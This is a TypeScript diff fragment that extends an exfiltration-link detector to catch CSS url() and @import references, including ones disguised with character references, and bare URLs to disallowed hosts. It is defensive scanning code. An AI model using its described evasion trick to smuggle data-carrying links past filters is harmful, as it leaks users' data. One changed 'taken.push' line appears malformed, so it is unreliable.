           push(m.start, end, tag !== 'a', worst.data, tag === 'a' ? 'html link' : `html ${tag}`);
         }
       }
+      // CSS, read wherever it is (a style attribute of any tag, a style element, SVG paint, and CSS
+      // shown in a code block, as tags there are found too), after references are decoded: a style
+      // attribute is decoded before CSS reads it, so `u&#114;l(` is url(. A finding spans the url(…)
+      // token, or "@import" and its string, as written: removed, no URL is left and the rest of the
+      // style (or the tag around it) stays; a tag spans the whole tag only because its URL is an
+      // attribute value with no token of its own. An unclosed url() runs to the end of its value (CSS
+      // fetches it), and one still open at the end of a text longer than LINK_HOLD is reported up to
+      // LINK_HOLD before the end (as openLinkAtEnd does), also before its URL has begun.
+      // A text without CSS costs three indexOf passes ('&', '(' and '@').
+      const view = decodeCharRefs(text);
+      for (const m of cssMatches(view.text).matches) {
+        const start = refStart(view, m.start);
+        const end = refEnd(view, m.end);
+        if (overlaps(start, end, 2)) continue;
+        const what = m.kind === 'url' ? 'css url()' : 'css @import';
+        const value = text.slice(refStart(view, m.valueStart), refEnd(view, m.valueEnd));
+        const v = eitherVerdict(value, cssUnescape);
+        if (m.open && text.length - start > LINK_HOLD) {
+          if (v !== null || view.text.slice(m.valueStart, m.valueEnd).trim().length === 0) push(start, text.length - LINK_HOLD, true, v?.data ?? false, `${what} still open`);
+        } else if (v !== null) push(start, end, true, v.data, what);
+      }
       if (cfg.bareUrls) {
         for (const m of bareUrlMatches(text)) {
           if (overlaps(m.start, m.end)) continue;
@@ -375,11 +890,11 @@ export function createExfilLinksDetector(cfg: ExfilConfig): Detector {
           const v = verdict(text.slice(m.start, end));
           if (v !== null && !imagesOnly) {
             out.push({ detector: cfg.id, type: 'EXFIL_LINK', start: m.start, end, score: v.data ? 0.5 : 0.3, explanation: `bare url${v.data ? ', url carries data' : ''}, host not allowed` });
-            taken.push([m.start, end]);
+            taken.push([m.start, end], 2);
           }
         }
       }
-      const open = text.length > LINK_HOLD ? openLinkAtEnd(text, verdict) : null;
+      const open = text.length > LINK_HOLD ? openLinkAtEnd(text, mdVerdict, htmlVerdict) : null;
       if (open !== null && text.length - LINK_HOLD > open.start && !overlaps(open.start, open.start + 1)) {
         push(open.start, text.length - LINK_HOLD, open.image, open.data, open.what);
       }
